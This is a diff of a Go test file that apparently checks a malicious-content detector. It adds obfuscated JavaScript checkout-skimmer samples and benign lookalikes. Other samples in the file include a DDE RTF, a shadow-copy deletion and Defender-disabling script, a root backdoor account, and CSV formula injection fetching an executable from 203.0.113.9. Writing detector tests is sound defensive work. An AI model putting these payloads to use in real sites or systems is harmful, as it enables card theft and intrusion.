@@ -1,6 +1,8 @@
 package baseline
 
 import (
+	"encoding/base64"
+	"fmt"
 	"strings"
 	"testing"
 	"unicode/utf16"
@@ -98,6 +100,9 @@ var planting = map[string]string{
 	"e.rtf":         `{\rtf1{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"}}}`,
 	"gpo.ps1":       "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}\r\nnetsh advfirewall set allprofiles state off\r\nsc stop WinDefend\r\n",
 	"boot.sh":       "#!/bin/sh\nuseradd -o -u 0 -g 0 -M sysd\n",
+	"hex.js":        `var _0x9533=["\x63\x63\x5F\x6E\x75\x6D\x62\x65\x72","\x76\x61\x6C\x75\x65","\x68\x74\x74\x70\x73\x3A\x2F\x2F"];document[_0x9533[0]].value;`,
+	"codes.js":      "this['eval'](String['fromCharCode'](" + letterCodes(`if((new RegExp('onepage|checkout')).test(window.location)){$("input, select").each(function(){q+=$(this).val()});$.post(u,q)}`) + "));",
+	"base64.js":     "this['eval'](this['atob']('" + base64.StdEncoding.EncodeToString([]byte(`if((new RegExp('onepage|checkout')).test(window.location)){$("input, select").each(function(){q+=$(this).val()});$.post(u,q)}`)) + "'));",
 	"artikel.csv":   "id,name,preis\n1,Schraube,0.10\n2,=cmd|'/c powershell iwr http://203.0.113.9/p.exe'!A1,9\n",
 	"b.csv":         "name;phone\r\nada;\"+cmd|' /C calc'!A0\"\r\n@SUM(1+1)*cmd|' /C calc'!A0;1\r\n",
 }
@@ -153,6 +158,8 @@ var harmless = map[string]string{
 	"adduser.sh":        "#!/bin/sh\nuseradd -m -u 1005 -s /bin/bash ada\nuseradd -r -u 0100 app\ngrep ':0:0:' /etc/passwd >> /tmp/roots\n",
 	"alert.py":          "import requests\nrequests.post('https://api.telegram.org/bot'+T+'/sendMessage', data={'text': 'The backup is done.'})\n",
 	"tcp.ps1":           "$c = New-Object System.Net.Sockets.TcpClient\r\n$c.Connect('mail.example', 25)\r\nif ($c.Connected) { 'up' }\r\n",
+	"track.js":          `if(/checkout/.test(window.location)){ga("send","event","checkout");document.querySelector("input").value="";}`,
+	"icons.js":          `var e="\x3c\x73\x76\x67\x3e",t=String.fromCharCode(55,56,57,58,59,60,61,62,63,64);atob("iVBORw0KGgoAAAANSUhEUgAA");`,
 	"formulas.csv":      "name;sum;link\r\nada;=A1+B1;=HYPERLINK(\"https://shop.example/1\",\"one\")\r\nbob;-5;+49 30 1234|x\r\ncmd|powershell;2;3\r\n",
 	"admin.bat":         "@echo off\r\nnet use z: \\\\files\\scripts\r\nwevtutil epl Security \\\\files\\logs\\sec.evtx\r\nPsExec \\\\pc7 -s gpupdate /force\r\nvssadmin create shadow /for=c:\r\nnet stop spooler\r\n",
 	"sqlstop.cmd":       "net stop MSSQLSERVER\r\nxcopy d:\\data e:\\backup /s\r\nnet start MSSQLSERVER\r\n",
@@ -163,6 +170,11 @@ var harmless = map[string]string{
 	"ticket.txt":        "Software: Office\nHost: pc-17\nUser: ada\nProblem: she forgot her password\n",
 	"hardening.md":      "Event 4688 shows `mimikatz.exe privilege::debug sekurlsa::logonpasswords`:\n\n# procdump of lsass must be blocked\n",
 	"reg.bat":           "reg save HKCU\\Software\\App app.hiv\r\nprocdump -ma app.exe\r\n",
+}
+
+// letterCodes are the codes of the letters of a text.
+func letterCodes(text string) string {
+	return strings.Trim(strings.ReplaceAll(fmt.Sprint([]byte(text)), " ", ","), "[]")
 }
 
 func TestPlanted(t *testing.T) {
